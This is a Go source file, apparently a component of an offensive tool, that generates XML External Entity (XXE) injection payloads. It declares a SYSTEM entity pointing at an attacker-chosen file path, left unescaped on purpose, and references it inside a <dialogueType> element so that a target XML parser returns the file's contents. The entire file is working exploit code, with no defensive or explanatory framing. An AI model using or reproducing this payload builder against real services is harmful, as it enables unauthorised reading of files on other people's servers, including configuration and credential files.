package xxe

import "strings"

// ContentType is sent with every injected payload.
const ContentType = "text/xml; charset=UTF-8"

// BuildPayload renders the XML document that binds entity to remoteFile and
// references it inside <dialogueType>. remoteFile is not escaped: the target
// parser must see the path exactly as given. Lines end in CRLF.
func BuildPayload(entity, remoteFile string) string {
	var b strings.Builder
	b.WriteString(`<?xml version="1.0" encoding='utf-8' ?>` + "\r\n")
	b.WriteString("<!DOCTYPE a [<!ENTITY " + entity + " SYSTEM '" + remoteFile + "'> ]>\r\n")
	b.WriteString("<message><dialogueType>&" + entity + ";</dialogueType></message>\r\n")
	return b.String()
}
